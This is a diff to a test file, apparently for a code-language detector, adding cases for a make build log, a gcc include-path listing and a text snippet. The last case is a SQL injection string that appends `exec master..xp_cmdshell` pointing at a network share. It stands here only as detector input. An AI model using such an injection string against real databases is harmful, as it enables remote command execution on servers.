@@ -57,6 +57,19 @@ CASES = [
     ("bash", "a >> b\nb >> c\n"),
     ("text", "tree.txt\n├── a\n└── b\n"),
     ("c", "#ifdef HAVE_WCHAR\n#  define NULL_ARGS <>\n#endif\n"),
+    # found by the old/new diff: make's commands echoed under `>> `, root's prompt over the paths
+    # or the table a program printed, an injection's string holding `;` before a `//` path
+    (
+        "bash",
+        "make\n>> cc -Wall -c -o main.o main.c\n>> cc -o app main.o\n\nmake clean\n>> rm -f main.o app\n",
+    ),
+    (
+        "console",
+        "# gcc -v -xc /dev/null |& grep -A 5 'search starts'\n#include \"...\" search starts here:\n"
+        "#include <...> search starts here:\n /usr/lib/gcc/x86_64-linux-gnu/12/include\n /usr/local/include\n"
+        " /usr/include\nEnd of search list.\n",
+    ),
+    ("text", "'; exec master..xp_cmdshell '//10.0.0.5/share' --\n"),
 ]
 
 test_detection = detection_test(CASES)
